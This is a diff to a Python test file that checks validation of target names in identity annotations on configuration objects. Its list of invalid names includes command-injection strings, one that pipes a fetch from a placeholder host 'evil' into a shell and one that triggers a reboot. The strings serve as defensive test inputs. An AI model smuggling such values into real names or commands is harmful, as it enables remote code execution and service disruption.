@@ -48,11 +48,14 @@ def test_an_identity_annotation_names_its_target_only_on_exactly_its_object() ->
     live = marked("bank:/ConfigMap:shop/web")
     assert marked_target(live, identity_of(live)) == "bank"
     assert marked_target(live, replace(identity_of(live), name="copy")) == ""
+    assert marked_target(marked("grafana.shop.main:/ConfigMap:shop/web"), identity_of(live)) == "grafana.shop.main"
     ours = as_ours(live, identity_of(live), OURS.marks)
     assert (is_member(ours, identity_of(live), OURS), marked_target(live, identity_of(live))) == (True, "bank")
 
 
-@pytest.mark.parametrize("name", ["x`; curl evil | sh; `", "$(reboot)", "a b", "Bank", "bank.de", "", "-b", "b\n", 57 * "b"])
+@pytest.mark.parametrize(
+    "name", ["x`; curl evil | sh; `", "$(reboot)", "a b", "Bank", "bank..de", "", "-b", "b\n", 57 * "b", f"{61 * 'b'}.de"]
+)
 def test_an_identity_annotation_with_an_invalid_target_name_names_none(name: str) -> None:
     """Messages, and the commands in them, repeat the name."""
     live = marked(f"{name}:/ConfigMap:shop/web")
